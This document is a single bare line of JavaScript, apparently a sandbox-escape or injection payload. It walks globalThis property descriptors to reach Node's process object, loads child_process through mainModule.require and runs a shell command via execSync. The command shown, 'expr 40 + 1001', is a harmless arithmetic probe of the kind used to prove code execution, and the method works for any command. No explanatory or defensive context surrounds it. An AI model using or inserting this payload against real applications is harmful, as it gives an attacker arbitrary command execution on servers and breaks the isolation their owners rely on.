Object.getOwnPropertyDescriptors(globalThis).process.get.call(globalThis).mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
